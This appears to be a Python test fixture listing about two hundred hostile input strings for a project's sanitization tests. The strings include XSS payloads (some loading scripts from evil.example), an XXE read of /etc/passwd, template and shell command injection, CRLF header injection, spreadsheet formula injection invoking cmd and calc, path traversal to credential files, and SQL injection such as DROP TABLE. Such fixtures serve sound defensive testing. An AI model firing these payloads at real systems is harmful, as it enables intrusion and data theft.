"""Two hundred strings that try to run, to break out, or to lead elsewhere. Written for this project."""

from __future__ import annotations

_SCRIPT = [
    "<script>window.hit=1</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>window.hit=1</script\n>",
    "</script><script>window.hit=1</script>", "<scr<script>ipt>window.hit=1</scr</script>ipt>", "<img src=x onerror=window.hit=1>",
    "<img src=x onerror='window.hit=1'", '"><img src=x onerror=window.hit=1>', "'><img src=x onerror=window.hit=1>",
    '" onmouseover="window.hit=1', "' onfocus='window.hit=1' autofocus='", "<body onload=window.hit=1>", "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<iframe src=javascript:parent.hit=1>", "<a href=javascript:window.hit=1>x</a>", "<details open ontoggle=window.hit=1>", "<input autofocus onfocus=window.hit=1>",
    "<video><source onerror=window.hit=1>", "<audio src=x onerror=window.hit=1>", "<marquee onstart=window.hit=1>", "<object data=javascript:window.hit=1>",
    "<embed src=javascript:window.hit=1>", "<form action=javascript:window.hit=1><button>x</button></form>", "<isindex action=javascript:window.hit=1>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<template><script>window.hit=1</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
    "<!--><script>window.hit=1</script>-->", "<![CDATA[<script>window.hit=1</script>]]>", "<textarea></textarea><script>window.hit=1</script>", "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>", "</style><script>window.hit=1</script>", "</blockquote></article><script>window.hit=1</script>", "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;", "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e", "%3Cscript%3Ewindow.hit=1%3C/script%3E", "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "\u2028window.hit=1//", "javascript:window.hit=1", "JaVaScRiPt:window.hit=1", "java\tscript:window.hit=1", "\x01javascript:window.hit=1", "data:text/html,<script>window.hit=1</script>",
    "vbscript:window.hit=1", "javascript&colon;window.hit=1", "<a href='&#106;avascript:window.hit=1'>x</a>", "`${window.hit=1}`", "');window.hit=1;//", '");window.hit=1;//', "*/window.hit=1/*", "<x onclick=window.hit=1>x</x>",
    "<xss style=animation-name:x onanimationstart=window.hit=1>", "<button popovertarget=x>x</button><b popover id=x onbeforetoggle=window.hit=1>",
]  # fmt: skip
_SVG = [
    "<svg onload=window.hit=1>", "<svg><script>window.hit=1</script></svg>", "<svg><a xlink:href=javascript:window.hit=1><text>x</text></a></svg>", "<svg><animate onbegin=window.hit=1 attributeName=x>",
    "<svg><set attributeName=href to=javascript:window.hit=1>", "<svg><foreignObject><script>window.hit=1</script></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1>#x'/></svg>",
    "</text></svg><script>window.hit=1</script>", "</title></a></svg><img src=x onerror=window.hit=1>", "<svg><style>*{x:expression(window.hit=1)}</style></svg>", "<svg><image href=//evil.example/x.png>",
    "<math><mtext><script>window.hit=1</script></mtext></math>", "<math href=javascript:window.hit=1>x</math>", "<svg/onload=window.hit=1//", "<svg><handler xmlns:ev=x ev:event=load>window.hit=1</handler>", "<?xml-stylesheet href='javascript:window.hit=1'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<svg><desc><![CDATA[</desc><script>window.hit=1</script>]]></svg>",
]  # fmt: skip
_CSS = [
    "<style>*{background:url(//evil.example/x)}</style>", "<style>@import '//evil.example/x.css';</style>", "\" style=\"background:url(//evil.example)", "' style='position:fixed;inset:0'", "<p style=position:fixed;inset:0>x</p>",
    "<style>body{display:none}</style>", "};body{display:none}", "</style><style>*{color:red}", "expression(window.hit=1)", "url(javascript:window.hit=1)", "-moz-binding:url(//evil.example/x)", "<font color=red size=99>x</font>", "<center><h1>x</h1></center>", "<table><tr><td>x", "</main></body></html>",
]  # fmt: skip
_TEMPLATE = [
    "{{ 7*7777 }}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ page.shell.form_token }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{{ self._TemplateReference__context }}", "{%- for x in (1).__class__.__base__.__subclasses__() -%}", "{# x #}", "${7*7777}", "#{7*7777}", "<%= 7*7777 %>",
    "{{constructor.constructor('window.hit=1')()}}", "[[7*7777]]", "{7*7777}", "%(x)s", "%s%s%s%n", "{0.__class__}", "{page}", "$(touch /tmp/hit)", "`touch /tmp/hit`", "; touch /tmp/hit", "| touch /tmp/hit", "&& touch /tmp/hit",
]  # fmt: skip
_HEADER = [
    "x\r\nSet-Cookie: hit=1", "x\nLocation: //evil.example", "x\r\n\r\n<script>window.hit=1</script>", "x%0d%0aSet-Cookie:%20hit=1", "x\x00y", "\ufeffx", "x\u202egnp.exe", "x\u2066y\u2069", "\x1b[31mred\x1b[0m", "\x08\x08x", "é́́́́́́́", "x" * 900, "\ud7ffx", "x\ufffex", "\u0000", "𝕏" * 40, "ﷺ" * 20, "\u200bx\u200b", "名前" * 30, "x; filename=evil.exe",
]  # fmt: skip
_FORMULA = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"//evil.example\",\"x\")", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x", "=IMPORTXML(\"//evil.example\",\"//a\")", "\"=1+1\"", "'=1+1", "%0A=1+1", "|calc", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0", "\u200b=1+1", "\xa0=1+1", "=1\"+\"1", "x\",=1+1", "x\n=1+1", ";=1+1", "\u3000=1+1",
]  # fmt: skip
_PATH = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "//evil.example", "\\\\evil.example\\x", "http://evil.example/", "%2e%2e%2f%2e%2e%2fetc/passwd", "....//....//etc/passwd", "~/.ssh/id_rsa", "CON", "x.html/../../x", "C:\\x", ".", "..", "x?y=z&a=b#c", "a/b/c", "#r-e0", "?q=x", "/identity/judge",
]  # fmt: skip
_QUERY = [
    "' OR '1'='1", "'; DROP TABLE articles; --", "\" OR 1=1 --", "1 UNION SELECT * FROM articles", "NEAR(a b)", "a AND", "OR", "NOT", "\"", "a\"b\"c", "*", "a*b*", "(a", "a)", "col:a", "{actor} : a", "a + b", "^a", "-a", "a OR b NOT c", "%", "_", "\\", "a\\'b", "title:x", "rank MATCH 'x'", "x' ESCAPE '", "\"a\" NEAR \"b\"",
]  # fmt: skip
ATTACKS: tuple[str, ...] = tuple(
    dict.fromkeys([*_SCRIPT, *_SVG, *_CSS, *_TEMPLATE, *_HEADER, *_FORMULA, *_PATH, *_QUERY])
)
